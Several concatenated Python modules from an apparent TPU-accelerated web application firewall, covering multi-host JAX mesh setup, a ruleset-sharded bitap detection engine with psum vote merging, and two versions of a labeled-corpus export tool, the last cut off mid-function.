| SP       | streamed body chunks per connection  | sequence-sharded bodies
|          |                                      | with a 31-byte halo
|          |                                      | ppermute ring (factors are
|          |                                      | ≤32 bytes, so the halo is
|          |                                      | exact — the ring-attention
|          |                                      | boundary exchange with
|          |                                      | O(1) state)                |
| PP       | nginx phase pipeline                 | host pipeline: normalize →
|          |                                      | scan (TPU) → confirm, with
|          |                                      | double-buffered dispatch
|          |                                      | (serve/batcher.py)         |

Comm backend: ICI via XLA collectives inside shard_map (psum, ppermute);
DCN via jax.distributed for multi-host; host↔TPU via the serve loop's UDS
protocol (native/sidecar).
"""

from ingress_plus_tpu.parallel.mesh import make_mesh  # noqa: F401
from ingress_plus_tpu.parallel.shard import (  # noqa: F401
    ShardedEngine,
    shard_ruleset_tables,
)
