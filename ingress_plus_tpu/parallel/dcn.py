"""Multi-host (DCN) support — the distributed communication backend tier.

The reference scales its data plane horizontally with N controller/nginx
replicas behind a Service; coordination is k8s API state, and no traffic
crosses replicas (SURVEY.md §2.4: no NCCL/MPI — DP is process-level).
The TPU framework mirrors that shape the TPU-native way:

  * each host runs its own sidecar + serve loop feeding its local chips —
    requests NEVER cross hosts (like nginx replicas, the batch dim is
    host-local);
  * the device mesh can still span hosts for ruleset sharding when a
    ruleset is too big for one host's HBM: ``hybrid_mesh`` places the
    ``data`` axis outermost over DCN (cheap: per-verdict traffic is a few
    bytes) and the ``model`` axis innermost over ICI (the psum vote-merge
    rides the fast fabric — jax-ml scaling-book recipe);
  * process bring-up is ``jax.distributed.initialize`` — the analog of the
    reference's replica registration, driven by env/flags instead of the
    k8s API.

Single-process (the common case and every CI path) degrades to the plain
single-host mesh with zero DCN machinery.
"""

from __future__ import annotations

import os
from typing import Optional, Tuple

import jax
import numpy as np
from jax.sharding import Mesh

from ingress_plus_tpu.parallel.mesh import make_mesh


def init_distributed(
    coordinator_address: Optional[str] = None,
    num_processes: Optional[int] = None,
    process_id: Optional[int] = None,
) -> bool:
    """Gated ``jax.distributed.initialize``.

    Args fall back to the standard env (JAX_COORDINATOR_ADDRESS /
    JAX_NUM_PROCESSES / JAX_PROCESS_ID).  Returns True when a multi-process
    runtime was (or already is) initialized, False for the single-process
    fallback — callers never need to branch on environment themselves.
    """
    coordinator_address = coordinator_address or os.environ.get(
        "JAX_COORDINATOR_ADDRESS")
    if num_processes is None and "JAX_NUM_PROCESSES" in os.environ:
        num_processes = int(os.environ["JAX_NUM_PROCESSES"])
    if process_id is None and "JAX_PROCESS_ID" in os.environ:
        process_id = int(os.environ["JAX_PROCESS_ID"])
    # "already initialized by a launcher" must be detected WITHOUT
    # touching the backend: jax.process_count() initializes XLA, after
    # which jax.distributed.initialize refuses to run — the original
    # check bricked every real multi-host bring-up through this helper
    # (found by the two-process test)
    state = getattr(getattr(jax._src, "distributed", None),
                    "global_state", None)
    if state is not None and getattr(state, "client", None) is not None:
        return True  # a launcher already initialized the runtime
    if not coordinator_address or not num_processes or num_processes <= 1:
        return False
    jax.distributed.initialize(
        coordinator_address=coordinator_address,
        num_processes=num_processes,
        process_id=process_id if process_id is not None else 0)
    return True


def hybrid_mesh(
    n_model: Optional[int] = None,
    devices: Optional[list] = None,
) -> Mesh:
    """("data", "model") mesh with hosts on the data axis.

    Multi-process: data axis = process count (DCN outermost), model axis =
    local devices per process (ICI innermost) — so the per-batch psum
    vote-merge never leaves a host, and only host-local batches ride each
    data-axis slot.  ``n_model`` may further split a host's devices
    between data and model.  Single-process: identical to
    ``make_mesh(n_model=...)``.
    """
    procs = jax.process_count()
    if procs <= 1:
        return make_mesh(n_model=n_model, devices=devices)
    devices = list(devices if devices is not None else jax.devices())
    per_proc = len(devices) // procs
    if n_model is None:
        n_model = per_proc
    if per_proc % n_model != 0:
        raise ValueError("n_model=%d does not divide %d local devices"
                         % (n_model, per_proc))
    # order devices host-major so rows of the mesh are host-local: the
    # model axis (fast collectives) then never crosses DCN
    devices = sorted(devices, key=lambda d: (d.process_index, d.id))
    arr = np.asarray(devices).reshape(procs * (per_proc // n_model), n_model)
    return Mesh(arr, axis_names=("data", "model"))


def local_batch_bounds(mesh: Mesh, global_batch: int) -> Tuple[int, int]:
    """[start, end) of the global batch this process feeds.

    The serve loop on each host device_puts only its own slice (requests
    are host-local, like nginx replica traffic); with B divisible by the
    data axis this is the standard per-process addressable shard.
    """
    n_data = mesh.shape["data"]
    if global_batch % n_data != 0:
        raise ValueError("batch %d not divisible by data axis %d"
                         % (global_batch, n_data))
    per_row = global_batch // n_data
    # rows owned by this process: those whose devices are all local
    rows = [i for i in range(n_data)
            if all(d.process_index == jax.process_index()
                   for d in np.asarray(mesh.devices)[i])]
    if not rows:  # single-process meshes own everything
        return 0, global_batch
    return rows[0] * per_row, (rows[-1] + 1) * per_row


def make_global(mesh: Mesh, spec, local_np: np.ndarray,
                global_shape: Optional[Tuple[int, ...]] = None):
    """Host-local numpy slice → global sharded jax.Array.

    The multi-host ingestion step: each serve loop holds only its own
    requests (local_batch_bounds slice); this assembles the global batch
    array a multi-process ``shard_map`` step consumes, without any host
    ever materializing another host's bytes.  Single-process meshes pass
    through ``jax.device_put`` with the same sharding."""
    from jax.sharding import NamedSharding

    sharding = NamedSharding(mesh, spec)
    if jax.process_count() <= 1:
        return jax.device_put(np.asarray(local_np), sharding)
    return jax.make_array_from_process_local_data(
        sharding, np.ascontiguousarray(local_np), global_shape)


def gather_global(x) -> np.ndarray:
    """Global (possibly non-addressable) jax.Array → full numpy on every
    process — the verdict fan-back of the multi-host step (a few bytes
    per request over DCN; the reference ships verdicts over TCP the same
    way).  Single-process arrays go straight to numpy."""
    if jax.process_count() <= 1:
        return np.asarray(x)
    from jax.experimental import multihost_utils

    return np.asarray(multihost_utils.process_allgather(x, tiled=True))


def device_duty_summary() -> dict:
    """Small DCN-aware observability blob for /healthz: process topology
    plus local device inventory (the reference's replica-status analog)."""
    return {
        "process_index": jax.process_index(),
        "process_count": jax.process_count(),
        "local_devices": [str(d) for d in jax.local_devices()],
        "global_device_count": len(jax.devices()),
    }
