"""Tensor-parallel (ruleset-sharded) detection over a device mesh.

The bitap scan is *word-local*: no cross-word carries exist (bitap.py), so
sharding the word axis across the ``model`` mesh axis costs zero
communication in the hot loop.  Each shard scans the same bytes against its
slice of the byte table, extracts its own factors' hits, and votes partial
rule hits; one ``psum`` over ICI merges the votes — the verdict OR-reduce
named in SURVEY.md §2.4.  Batch rows ride the ``data`` axis (DP); tenant
(EP) masks apply to the merged votes.

Offline, ``shard_ruleset_tables`` re-packs a CompiledRuleset into
shard-major arrays (padded to uniform per-shard factor counts so shapes are
static under shard_map).
"""

from __future__ import annotations

import functools
from dataclasses import dataclass
from typing import Tuple

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P
from ingress_plus_tpu.parallel._compat import shard_map

from ingress_plus_tpu.compiler.ruleset import CompiledRuleset, N_SV
from ingress_plus_tpu.compiler.seclang import CLASSES
from ingress_plus_tpu.ops.pallas_scan import (
    _pallas_pair_scan,
    _round_up,
    check_pair_tiling,
    pack_pair_tables,
)
from ingress_plus_tpu.ops.scan import (
    build_class_pair_tables,
    classes_for,
    scan_bytes,
    scan_pairs,
)


@dataclass
class ShardedTables:
    """Numpy arrays laid out shard-major for an n_model-way TP split."""

    n_model: int
    w_shard: int              # words per shard (padded)
    byte_table: np.ndarray    # (256, n_model * w_shard) uint32
    init_mask: np.ndarray     # (n_model * w_shard,) uint32
    final_mask: np.ndarray    # (n_model * w_shard,) uint32
    factor_word: np.ndarray   # (n_model, f_max) int32 — shard-relative
    factor_bit: np.ndarray    # (n_model, f_max) uint32
    factor_rule: np.ndarray   # (n_model, f_max, R) float32 (0-padded)
    rule_sv: np.ndarray       # (R, N_SV) float32 (replicated)
    rule_score: np.ndarray    # (R,) float32
    rule_class: np.ndarray    # (R, C) float32
    rule_no_prefilter: np.ndarray  # (R,) bool
    # ---- per-shard class-pair stride (round-4, VERDICT item #7): the
    # single-chip bake-off winner (scan_pairs) sharded along words.  Byte
    # classes are computed PER SHARD from that shard's byte-table slice —
    # a shard sees fewer distinct reach rows than the full table, so its
    # class count k_s is smaller; all shards pad to k_max with the dead
    # class LAST at index k_max (uniform shapes under shard_map).
    k_max: int = 0
    byte_class: np.ndarray = None    # (n_model, 257) int32; [256]=k_max
    class_table: np.ndarray = None   # (n_model, k_max+1, w_shard) uint32
    pair_reach: np.ndarray = None    # (n_model, (k_max+1)^2, w_shard)
    pair_final: np.ndarray = None    # (n_model, k_max+1, w_shard)


def shard_ruleset_tables(cr: CompiledRuleset, n_model: int,
                         lane_multiple: int = 8) -> ShardedTables:
    t = cr.tables
    W, F, R = t.n_words, t.n_factors, cr.n_rules
    w_shard = -(-W // n_model)
    w_shard = -(-w_shard // lane_multiple) * lane_multiple
    W_pad = w_shard * n_model

    bt = np.zeros((256, W_pad), np.uint32)
    bt[:, :W] = t.byte_table
    init = np.zeros((W_pad,), np.uint32)
    init[:W] = t.init_mask
    final = np.zeros((W_pad,), np.uint32)
    final[:W] = t.final_mask

    # factor → owning shard
    shard_of = t.factor_word // w_shard
    f_max = max(1, int(np.bincount(shard_of, minlength=n_model).max()))
    factor_word = np.zeros((n_model, f_max), np.int32)
    factor_bit = np.zeros((n_model, f_max), np.uint32)
    factor_rule = np.zeros((n_model, f_max, max(R, 1)), np.float32)
    fill = np.zeros((n_model,), np.int64)
    for f in range(F):
        s = int(shard_of[f])
        j = int(fill[s])
        factor_word[s, j] = t.factor_word[f] - s * w_shard
        factor_bit[s, j] = t.factor_bit[f]
        lo, hi = t.factor_rule_indptr[f], t.factor_rule_indptr[f + 1]
        factor_rule[s, j, t.factor_rule_ids[lo:hi]] = 1.0
        fill[s] += 1
    # padded factor slots keep word 0 / bit 0 but an all-zero rule map, so
    # whatever bit they read contributes nothing to the vote.

    onehot = np.zeros((max(R, 1), len(CLASSES)), np.float32)
    if R:
        onehot[np.arange(R), cr.rule_class] = 1.0

    # per-shard pair-stride tables via the SHARED construction
    # (ops/scan.py build_class_pair_tables — one recurrence, two paths),
    # padded to a uniform k_max so shapes are static under shard_map
    shard_uniq = []
    k_max = 1
    for s in range(n_model):
        bt_s = bt[:, s * w_shard:(s + 1) * w_shard]
        uniq, inv = np.unique(bt_s.astype(np.uint32), axis=0,
                              return_inverse=True)
        shard_uniq.append((uniq, inv))
        k_max = max(k_max, int(uniq.shape[0]))
    byte_class = np.zeros((n_model, 257), np.int32)
    class_table = np.zeros((n_model, k_max + 1, w_shard), np.uint32)
    pair_reach = np.zeros((n_model, (k_max + 1) ** 2, w_shard), np.uint32)
    pair_final = np.zeros((n_model, k_max + 1, w_shard), np.uint32)
    for s in range(n_model):
        sl = slice(s * w_shard, (s + 1) * w_shard)
        bc, T, pr, pf, _k = build_class_pair_tables(
            bt[:, sl], init[sl], final[sl], k_pad=k_max,
            uniq_inv=shard_uniq[s])
        byte_class[s] = bc
        class_table[s] = T
        pair_reach[s] = pr
        pair_final[s] = pf

    return ShardedTables(
        n_model=n_model, w_shard=w_shard, byte_table=bt, init_mask=init,
        final_mask=final, factor_word=factor_word, factor_bit=factor_bit,
        factor_rule=factor_rule,
        rule_sv=cr.rule_sv_mask.astype(np.float32),
        rule_score=cr.rule_score.astype(np.float32),
        rule_class=onehot,
        rule_no_prefilter=(t.rule_nfactors == 0),
        k_max=k_max, byte_class=byte_class, class_table=class_table,
        pair_reach=pair_reach, pair_final=pair_final,
    )


class ShardedEngine:
    """DP×TP detection step over a Mesh (the multi-chip flagship program).

    EP: ``tenant_rule_mask`` (T, R) bool — per-tenant rule subsets over the
    shared superset NFA (benchmark config #4: 256 Ingress tenants).
    """

    #: "pair"    = class-pair stride via XLA (single-chip bake-off winner)
    #: "take"    = one-gather-per-byte fallback
    #: "pallas2" = the class-pair Pallas kernel, run per ruleset shard
    #:             inside shard_map on that shard's packed tables
    SCAN_IMPLS = ("pair", "take", "pallas2")

    def __init__(self, cr: CompiledRuleset, mesh: Mesh,
                 tenant_rule_mask: np.ndarray | None = None,
                 scan_impl: str = "pair"):
        self.mesh = mesh
        n_model = mesh.shape["model"]
        st = shard_ruleset_tables(cr, n_model)
        self.st = st
        if tenant_rule_mask is None:
            tenant_rule_mask = np.ones((1, max(cr.n_rules, 1)), bool)
        self.tenant_mask = tenant_rule_mask.astype(np.float32)
        if scan_impl not in self.SCAN_IMPLS:
            raise ValueError("sharded scan_impl must be one of %s"
                             % (self.SCAN_IMPLS,))
        self.scan_impl = scan_impl
        # pallas2 tile config + interpret knob (tests force True on CPU)
        self.p2_TB, self.p2_CL = 64, 16
        self.p2_MR = check_pair_tiling(self.p2_TB, self.p2_CL, 256)
        self.pallas_interpret = False

        def put(arr, spec):
            return jax.device_put(arr, NamedSharding(mesh, spec))

        W_pad = st.w_shard * n_model
        self.d_byte = put(st.byte_table, P(None, "model"))
        self.d_init = put(st.init_mask, P("model"))
        self.d_final = put(st.final_mask, P("model"))
        self.d_fw = put(st.factor_word, P("model", None))
        self.d_fb = put(st.factor_bit, P("model", None))
        self.d_fr = put(st.factor_rule, P("model", None, None))
        self.d_rule_sv = put(st.rule_sv, P(None, None))
        self.d_score = put(st.rule_score, P(None))
        self.d_class = put(st.rule_class, P(None, None))
        self.d_nopf = put(st.rule_no_prefilter, P(None))
        self.d_tenant = put(self.tenant_mask, P(None, None))
        # pair-stride tables, one slice per model shard
        self.d_bcls = put(st.byte_class, P("model", None))
        self.d_ctab = put(st.class_table, P("model", None, None))
        self.d_preach = put(st.pair_reach, P("model", None, None))
        self.d_pfinal = put(st.pair_final, P("model", None, None))
        # pallas2: per-shard tables packed into the kernel layout (ONE
        # packing — ops/pallas_scan.pack_pair_tables — shared with the
        # single-chip scanner).  Shapes are uniform across shards because
        # every shard pads classes to k_max and words to w_shard.
        self.p2_Wp = _round_up(max(st.w_shard, 128), 128)
        planes_l, pinit_l, pfinal_l = [], [], []
        for s in range(n_model):
            sl = slice(s * st.w_shard, (s + 1) * st.w_shard)
            pls, ini, fin, _K1p, _Wp = pack_pair_tables(
                st.class_table[s], st.init_mask[sl], st.final_mask[sl])
            planes_l.append(pls)
            pinit_l.append(ini)
            pfinal_l.append(fin)
        self.d_p2planes = put(jnp.asarray(np.stack(planes_l), jnp.bfloat16),
                              P("model", None, None))
        self.d_p2init = put(np.stack(pinit_l), P("model", None, None))
        self.d_p2final = put(np.stack(pfinal_l), P("model", None, None))
        self._steps = {}
        self._step = self._build_step(self.scan_impl)

    def set_scan_impl(self, scan_impl: str) -> None:
        """Switch the sharded scan implementation (compiled steps are
        cached per impl)."""
        if scan_impl not in self.SCAN_IMPLS:
            raise ValueError("sharded scan_impl must be one of %s"
                             % (self.SCAN_IMPLS,))
        self.scan_impl = scan_impl
        self._step = self._build_step(scan_impl)

    def _build_step(self, scan_impl: str, global_rows: bool = False):
        """``global_rows=False`` (the detect() contract): row_req holds
        SHARD-LOCAL request ids, each data shard reduces its own rows,
        and the (Q, R) output is the concatenation of per-shard
        verdicts.  ``global_rows=True`` (the serving adapter,
        parallel/serve_mesh): row_req holds GLOBAL request ids, rows may
        sit on ANY data shard, and per-request verdicts are merged with
        one extra psum over the data axis — placement-free, so batch
        shapes depend only on (B, L, Q) and the batcher's warm_shape
        replay compiles exactly the executables live traffic hits."""
        key = (scan_impl, self.pallas_interpret, global_rows)
        if key in self._steps:
            return self._steps[key]
        mesh = self.mesh
        TB, CL, MR = self.p2_TB, self.p2_CL, self.p2_MR
        Wp = self.p2_Wp
        k_max = self.st.k_max
        interpret = self.pallas_interpret

        def block(byte_table, init, final, bcls, ctab, preach, pfinal,
                  p2planes, p2init, p2final,
                  fw, fb, fr, rule_sv, score,
                  cls_map, nopf, tenant_mask, tokens, lengths, row_req,
                  row_sv, tenants, num_requests):
            # shapes inside the block are per-device slices:
            # byte_table (256, w_shard); fw/fb (1, f_max); fr (1, f_max, R)
            fw, fb, fr = fw[0], fb[0], fr[0]
            w_shard = byte_table.shape[1]

            # word-local scan — ZERO communication.  "pair" runs the
            # single-chip bake-off winner (class-pair stride: one reach
            # gather per TWO bytes) on this shard's own class tables;
            # "pallas2" runs the hand kernel on the same per-shard
            # tables; "take" is the one-gather-per-byte fallback.
            class _T:  # minimal ScanTables duck-type for the scan kernels
                n_words = byte_table.shape[1]
            t = _T()
            t.byte_table, t.init_mask, t.final_mask = byte_table, init, final
            t.byte_planes = None
            if scan_impl == "pair":
                t.byte_class = bcls[0]
                t.class_table = ctab[0]
                t.pair_reach = preach[0]
                t.pair_final = pfinal[0]
                match, _ = scan_pairs(t, tokens, lengths)
            elif scan_impl == "pallas2":
                cls = classes_for(bcls[0], tokens, lengths)   # (B_s, L)
                B_s, L = cls.shape
                Bp = -(-max(B_s, TB) // TB) * TB
                Lp = -(-max(L, CL) // CL) * CL
                # dead class (zero reach) = index k_max; padding rows
                # and columns die immediately, like scan_pairs
                cls_p = jnp.full((Bp, Lp), k_max, jnp.int32)
                cls_p = cls_p.at[:B_s, :L].set(cls)
                len_p = jnp.zeros((Bp, 1), jnp.int32)
                len_p = len_p.at[:B_s, 0].set(lengths.astype(jnp.int32))
                zeros = jnp.zeros((Bp, Wp), jnp.int32)
                out_m, _ = _pallas_pair_scan(
                    cls_p, len_p, p2planes[0], p2init[0], p2final[0],
                    zeros, zeros, TB=TB, CL=CL, MR=MR,
                    interpret=interpret)
                match = jax.lax.bitcast_convert_type(
                    out_m[:B_s, :w_shard], jnp.uint32)
            else:
                match, _ = scan_bytes(t, tokens, lengths, gather="take")

            # local factor hits → partial rule votes
            mw = jnp.take(match, fw, axis=1)
            fh = ((mw >> fb) & jnp.uint32(1)).astype(jnp.float32)
            vote = jnp.dot(fh, fr, preferred_element_type=jnp.float32)

            # ICI: merge votes across ruleset shards (the one collective)
            vote = jax.lax.psum(vote, axis_name="model")
            row_rule = vote > 0

            applies = jnp.dot(row_sv.astype(jnp.float32), rule_sv.T,
                              preferred_element_type=jnp.float32) > 0
            row_rule = jnp.logical_and(row_rule, applies)

            rh_i = jax.ops.segment_max(
                row_rule.astype(jnp.int32), row_req,
                num_segments=num_requests)
            ap_i = jax.ops.segment_max(
                applies.astype(jnp.int32), row_req,
                num_segments=num_requests)
            if global_rows:
                # rows for one request may live on several data shards:
                # OR the per-shard partials via psum.  segment_max fills
                # segments with NO rows on a shard with INT32_MIN, which
                # would poison the sum (INT_MIN + 1 stays negative and
                # erases a real hit) — clamp the partials to 0/1 first
                rh_i = jax.lax.psum(jnp.maximum(rh_i, 0),
                                    axis_name="data")
                ap_i = jax.lax.psum(jnp.maximum(ap_i, 0),
                                    axis_name="data")
            rule_hits = rh_i > 0
            req_has_rows = ap_i > 0
            rule_hits = jnp.logical_or(
                rule_hits, jnp.logical_and(req_has_rows, nopf[None, :]))

            # EP: tenant rule-subset masking
            tmask = jnp.take(tenant_mask, tenants % tenant_mask.shape[0],
                             axis=0) > 0
            rule_hits = jnp.logical_and(rule_hits, tmask)

            hits_f = rule_hits.astype(jnp.float32)
            class_hits = jnp.dot(hits_f, cls_map,
                                 preferred_element_type=jnp.float32) > 0
            scores = jnp.dot(hits_f, score,
                             preferred_element_type=jnp.float32)
            return rule_hits, class_hits, scores.astype(jnp.int32)

        @functools.partial(jax.jit, static_argnames=("num_requests",))
        def step(tokens, lengths, row_req, row_sv, tenants, num_requests):
            seg = (num_requests if global_rows
                   else num_requests // mesh.shape["data"])
            # global mode: tenants are per-request and replicated (the
            # verdict tensors are too, post-psum); local mode splits
            # both along the data axis
            out_axis = None if global_rows else "data"
            ten_spec = P(out_axis)
            fn = shard_map(
                functools.partial(block, num_requests=seg),
                mesh=mesh,
                in_specs=(
                    P(None, "model"), P("model"), P("model"),      # tables
                    P("model", None), P("model", None, None),      # pair
                    P("model", None, None), P("model", None, None),
                    P("model", None, None), P("model", None, None),  # p2
                    P("model", None, None),
                    P("model", None), P("model", None),
                    P("model", None, None),
                    P(None, None), P(None), P(None, None), P(None),
                    P(None, None),                                  # tenant
                    P("data", None), P("data"), P("data"),
                    P("data", None), ten_spec,
                ),
                out_specs=(P(out_axis, None), P(out_axis, None),
                           P(out_axis)),
                check_vma=False,
            )
            return fn(self.d_byte, self.d_init, self.d_final,
                      self.d_bcls, self.d_ctab, self.d_preach,
                      self.d_pfinal,
                      self.d_p2planes, self.d_p2init, self.d_p2final,
                      self.d_fw,
                      self.d_fb, self.d_fr, self.d_rule_sv, self.d_score,
                      self.d_class, self.d_nopf, self.d_tenant,
                      tokens, lengths, row_req, row_sv, tenants)

        self._steps[key] = step
        return step

    def autoselect_scan_impl(self, B: int = 256, L: int = 256,
                             iters: int = 17,
                             include_pallas: bool | None = None,
                             global_rows: bool = False) -> str:
        """Measure the sharded scan impls on THIS mesh and keep the
        winner — the sharded extension of
        DetectionEngine.autoselect_scan_impl (round-4, VERDICT item #7:
        the multi-chip step used the gather scan unconditionally while
        the single-chip bake-off winner was pair).  K-chained timing
        like utils/microbench: per-impl, run the jitted step iters times
        back-to-back and difference, so dispatch overhead (and the
        tunnel on this rig) mostly cancels.  pallas2 joins the bake-off
        on real TPU backends only (interpret mode would never win on
        CPU)."""
        import time as _time

        if jax.process_count() > 1:
            # multi-process meshes need make_global-built inputs (see
            # detect()); a measurement pass is not worth coordinating
            # across hosts — keep the configured impl
            return self.scan_impl
        if include_pallas is None:
            # Mosaic kernel: TPU platforms only ("axon" = this rig's
            # remote-TPU PJRT plugin); a GPU backend would crash the
            # bake-off at compile, not lose it
            include_pallas = jax.default_backend() in ("tpu", "axon")
        n_data = self.mesh.shape["data"]
        B = -(-B // n_data) * n_data
        rng = np.random.default_rng(7)
        tokens = rng.integers(0, 256, (B, L), dtype=np.int32)
        lengths = np.full((B,), L, np.int32)
        # one request per row; local mode wants SHARD-LOCAL ids, global
        # mode GLOBAL ids (matching each step variant's contract)
        row_req = (np.arange(B, dtype=np.int32) if global_rows
                   else np.tile(np.arange(B // n_data, dtype=np.int32),
                                n_data))
        row_sv = np.ones((B, self.st.rule_sv.shape[1]), np.int8)
        tenants = np.zeros((B,), np.int32)

        timings = {}
        candidates = ("take", "pair") + (
            ("pallas2",) if include_pallas else ())
        for impl in candidates:
            # measure the step VARIANT the caller serves with (the mesh
            # adapter runs global_rows=True; timing the local-rows
            # program would rank a program live traffic never executes
            # and pay its compiles for nothing)
            step = self._build_step(impl, global_rows=global_rows)
            args = (jnp.asarray(tokens), jnp.asarray(lengths),
                    jnp.asarray(row_req), jnp.asarray(row_sv),
                    jnp.asarray(tenants))
            out = step(*args, num_requests=B)   # compile + warm
            jax.block_until_ready(out)
            t0 = _time.perf_counter()
            for _ in range(iters):
                out = step(*args, num_requests=B)
            jax.block_until_ready(out)
            timings[impl] = _time.perf_counter() - t0
        best = min(timings, key=timings.get)
        self.last_timings = timings   # consumed by MeshEngine/diagnostics
        self.set_scan_impl(best)
        return best

    def detect(self, tokens, lengths, row_req, row_sv, tenants,
               num_requests: int) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
        """row_req must hold SHARD-LOCAL request indices (each data shard
        owns Q/n_data consecutive requests; the serve batcher lays batches
        out this way).  num_requests is the global request count.

        Multi-process (DCN) meshes: pass GLOBAL arrays built with
        ``parallel.dcn.make_global`` (each host contributes its
        local_batch_bounds slice); outputs come back as full numpy on
        every process via ``gather_global`` — tests/test_dcn.py drives
        this with two real jax.distributed processes."""
        n_data = self.mesh.shape["data"]
        if num_requests % n_data != 0:
            raise ValueError(
                "num_requests=%d not divisible by data-axis size %d — pad "
                "the batch with empty requests" % (num_requests, n_data))
        if self.scan_impl == "pair" and tokens.shape[1] % 2:
            # scan_pairs needs even L; one padding column costs nothing
            # (padding maps to the dead class) and keeps detect()'s
            # any-length contract from before the pair default.  Host
            # arrays only — a multi-process global array (make_global)
            # cannot be re-padded here, and its producer pads to 64 (the
            # pad_rows contract) anyway.
            if isinstance(tokens, jax.Array) and len(tokens.devices()) > 1:
                raise ValueError(
                    "pair scan needs even L for device-global inputs")
            tokens = np.pad(np.asarray(tokens), ((0, 0), (0, 1)))
        rh, ch, sc = self._step(
            jnp.asarray(tokens), jnp.asarray(lengths),
            jnp.asarray(row_req), jnp.asarray(row_sv), jnp.asarray(tenants),
            num_requests)
        from ingress_plus_tpu.parallel.dcn import gather_global

        return gather_global(rh), gather_global(ch), gather_global(sc)
