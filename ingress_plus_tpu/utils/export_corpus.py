"""Export the labeled corpus as pre-encoded request frames for loadgen.

Usage:
    python -m ingress_plus_tpu.utils.export_corpus out.bin [n] [seed]

The native load generator (native/sidecar/loadgen.cc) replays these frames
over the serve-loop UDS — the wrk2-corpus-replay analog of BASELINE
config #1.
"""

from __future__ import annotations

import sys

from ingress_plus_tpu.serve.protocol import encode_request
from ingress_plus_tpu.utils.corpus import generate_corpus


def export(path: str, n: int = 10_000, seed: int = 20260729,
           attack_fraction: float = 0.2, tenants: int = 1,
           mode: int = 2) -> int:
    """``mode=0`` exports wallarm_mode-off frames: the serve loop returns
    an instant clean verdict without touching the pipeline, so a loadgen
    replay of such a corpus measures the pure boundary chain
    (loadgen→sidecar→serve framing), bench.py's chain-overhead leg."""
    corpus = generate_corpus(n=n, attack_fraction=attack_fraction,
                             seed=seed, tenants=tenants)
    with open(path, "wb") as f:
        for i, lr in enumerate(corpus):
            f.write(encode_request(lr.request, req_id=i + 1, mode=mode))
    return len(corpus)


if __name__ == "__main__":
    out = sys.argv[1] if len(sys.argv) > 1 else "corpus.bin"
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 10_000
    seed = int(sys.argv[3]) if len(sys.argv) > 3 else 20260729
    count = export(out, n=n, seed=seed)
    print("wrote %d request frames to %s" % (count, out))
