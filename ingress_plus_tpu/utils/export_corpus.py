"""Export the labeled corpus — request frames for loadgen, feature
datasets for the learned scoring lane.

Frame export (the original mode; native/sidecar/loadgen.cc replays
these over the serve-loop UDS — the wrk2-corpus-replay analog of
BASELINE config #1):

    python -m ingress_plus_tpu.utils.export_corpus out.bin [n] [seed]

Feature export (ISSUE 8, docs/LEARNED_SCORING.md): the golden corpus
(utils/corpus attacks + benign + utils/benign_fixtures) through a CPU
pipeline with the RuleStats capture ring on, written as a labeled
``FeatureDataset`` (per-request confirmed-hit + candidate bitmaps,
attack/benign label, rule-id map) — the ONE shared input of the
offline trainer, the CI ``modelgate``, and the tests:

    python -m ingress_plus_tpu.utils.export_corpus --features out \
        [--n 2048] [--seed 20260729]
"""

from __future__ import annotations

import sys
from typing import Optional

import numpy as np

from ingress_plus_tpu.serve.protocol import encode_request
from ingress_plus_tpu.utils.corpus import generate_corpus


def export(path: str, n: int = 10_000, seed: int = 20260729,
           attack_fraction: float = 0.2, tenants: int = 1,
           mode: int = 2) -> int:
    """``mode=0`` exports wallarm_mode-off frames: the serve loop returns
    an instant clean verdict without touching the pipeline, so a loadgen
    replay of such a corpus measures the pure boundary chain
    (loadgen→sidecar→serve framing), bench.py's chain-overhead leg."""
    corpus = generate_corpus(n=n, attack_fraction=attack_fraction,
                             seed=seed, tenants=tenants)
    with open(path, "wb") as f:
        for i, lr in enumerate(corpus):
            f.write(encode_request(lr.request, req_id=i + 1, mode=mode))
    return len(corpus)


def build_feature_dataset(n: int = 2048, seed: int = 20260729,
                          attack_fraction: float = 0.3,
                          include_fixtures: bool = True,
                          ruleset=None, batch: int = 128,
                          capture_mb: int = 32):
    """Golden corpus → labeled ``FeatureDataset`` (learn/features.py).

    Runs the FULL pipeline in monitoring mode on CPU and records each
    request's activation bitmaps through the RuleStats capture ring —
    the same code path shadow-time collection uses, so exported
    features match serving features exactly.  ``include_fixtures``
    appends the hand-authored benign fixtures: they carry the known
    fixed-weight false positives (SQL-in-prose tickets, code-snippet
    pastes — reports/QUALITY.json ``benign_fixture``), which is
    precisely the head's FP-reduction training signal."""
    from ingress_plus_tpu.learn.features import FeatureDataset
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.utils.benign_fixtures import fixture_corpus

    if ruleset is None:
        from ingress_plus_tpu.compiler.ruleset import compile_ruleset
        from ingress_plus_tpu.compiler.sigpack import load_bundled_rules

        ruleset = compile_ruleset(load_bundled_rules())
    pipeline = DetectionPipeline(ruleset, mode="monitoring")
    labeled = generate_corpus(n=n, seed=seed,
                              attack_fraction=attack_fraction)
    if include_fixtures:
        labeled = labeled + fixture_corpus()
    row_bytes = 2 * ((ruleset.n_rules + 7) // 8)
    pipeline.rule_stats.enable_capture(
        cap_bytes=max(capture_mb << 20, (len(labeled) + 1) * row_bytes))
    for i in range(0, len(labeled), batch):
        pipeline.detect([lr.request for lr in labeled[i:i + batch]])
    cand, conf = pipeline.rule_stats.capture_snapshot()
    if conf.shape[0] != len(labeled):
        raise RuntimeError(
            "capture ring recorded %d requests for a %d-request corpus "
            "(ring undersized or a batch failed open)"
            % (conf.shape[0], len(labeled)))
    return FeatureDataset(
        x=conf.astype(np.uint8),
        y=np.asarray([1 if lr.is_attack else 0 for lr in labeled],
                     dtype=np.uint8),
        rule_ids=np.asarray(ruleset.rule_ids, dtype=np.int64).copy(),
        rule_score=np.asarray(ruleset.rule_score, dtype=np.int64).copy(),
        anomaly_threshold=int(pipeline.anomaly_threshold),
        x_candidates=cand.astype(np.uint8),
        request_ids=[lr.request.request_id for lr in labeled],
        meta={
            "corpus_n": n, "corpus_seed": seed,
            "attack_fraction": attack_fraction,
            "fixtures": include_fixtures,
            "ruleset": ruleset.version,
            "mode": "monitoring (full pipeline, CPU confirm lane)",
        })


def _features_main(argv) -> int:
    out: Optional[str] = None
    n, seed = 2048, 20260729
    it = iter(argv)
    for a in it:
        if a == "--features":
            out = next(it)
        elif a == "--n":
            n = int(next(it))
        elif a == "--seed":
            seed = int(next(it))
        else:
            print("unknown argument %r" % a, file=sys.stderr)
